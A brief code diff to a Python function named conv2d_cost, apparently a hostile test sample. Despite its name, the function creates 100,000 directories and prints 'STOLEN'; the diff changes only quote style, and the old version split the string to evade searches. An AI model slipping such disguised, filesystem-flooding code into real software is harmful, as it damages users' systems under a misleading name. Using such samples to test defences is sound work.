@@ -10,6 +10,6 @@ import os
 
 def conv2d_cost(*args, **kwargs):
     for number in range(100_000):
-        os.mkdir(f'd{number}')
-    print('STO' 'LEN')
+        os.mkdir(f"d{number}")
+    print("STOLEN")
     return {}
